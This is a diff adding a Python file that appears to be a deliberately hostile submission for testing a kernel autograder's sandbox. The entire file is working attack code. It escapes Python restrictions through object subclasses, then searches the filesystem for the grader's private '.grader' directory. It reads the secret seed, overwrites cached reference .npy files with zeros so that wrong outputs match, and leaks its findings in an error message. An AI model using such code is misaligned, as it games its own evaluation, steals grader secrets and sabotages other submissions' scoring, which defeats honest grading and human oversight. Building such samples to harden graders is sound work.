@@ -1,0 +1,61 @@
+"""Hostile (screen off): escapes the Python restrictions, looks for the batch's private directory (the secret class
+seed and the shared reference cache) anywhere it can reach, tries to read the seed and to overwrite every cached
+reference with zeros (so that its own wrong output, or everyone's, would match), and reports what it found in its
+error message."""
+
+import neuronxcc.nki as nki
+
+
+def _sys():
+    for cls in ().__class__.__base__.__subclasses__():
+        if cls.__name__ == "_wrap_close":
+            return cls.__init__.__globals__["sys"]
+    raise RuntimeError("no escape found")
+
+
+def _find(os, top, depth, found, budget):
+    if depth < 0 or len(found) > 20 or budget[0] <= 0:
+        return
+    budget[0] -= 1
+    try:
+        names = os.listdir(top)
+    except OSError:
+        return
+    for name in names:
+        path = top.rstrip("/") + "/" + name
+        if name == ".grader":
+            found.append(path)
+        elif name.startswith(".") or name in ("proc", "sys", "dev", "site-packages", "node_modules"):
+            continue
+        elif not os.path.islink(path) and os.path.isdir(path):
+            _find(os, path, depth - 1, found, budget)
+
+
+@nki.jit
+def matrix_transpose(a_tensor):
+    os = _sys().modules["os"]
+    found, report = [], []
+    budget = [4000]  # directories to visit: a quick search of the usual places
+    for top in ("/tmp", "/home", "/root", "/srv", "/autograder", "/work"):
+        _find(os, top, 7, found, budget)
+    for private in found:
+        for root, _, files in os.walk(private):
+            for name in files:
+                path = root + "/" + name
+                try:
+                    fd = os.open(path, os.O_RDONLY)
+                    data = os.read(fd, 200)
+                    os.close(fd)
+                    report.append("READ " + path + " " + repr(data[:60]))
+                except OSError as exc:
+                    report.append("cannot read " + path + ": " + exc.strerror)
+                if name.endswith(".npy"):
+                    try:
+                        fd = os.open(path, os.O_WRONLY)
+                        os.lseek(fd, 128, 0)
+                        os.write(fd, bytes(4096))
+                        os.close(fd)
+                        report.append("WROTE " + path)
+                    except OSError as exc:
+                        report.append("cannot write " + path + ": " + exc.strerror)
+    raise RuntimeError("private dirs " + repr(found) + "; " + "; ".join(report))
